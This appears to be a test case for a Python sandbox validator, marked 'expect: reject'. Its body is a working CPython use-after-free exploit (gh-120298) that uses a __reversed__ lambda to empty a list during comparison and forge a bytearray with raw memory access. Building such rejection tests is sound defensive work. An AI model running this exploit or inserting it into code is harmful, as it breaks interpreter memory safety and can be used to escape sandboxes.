# expect: reject memory
# line: 11
# verified: plain python3 3.11.2 (/usr/bin/python3 -I): prints 'bytearray 0x4000000000000000' (raw memory)
# why: gh-120298, round 14's narrowing of allowance (c) (iterator dunders judged, splat generator expressions consumed): __reversed__ run by reversed() inside __lt__: a dunder of the iteration family bound by a lambda in the class body, which empties the list
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class Box:
    __reversed__ = lambda s: (vl.clear(), iter([]))[1]
box = Box()
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o): return False
    def __lt__(s, o):
        for x in reversed(box):
            pass
        return NotImplemented
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
def raw_memory():
    w = Wc()
    vl.append(V())
    vl < [w]
    keep.append(w)
    return keep[-2]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
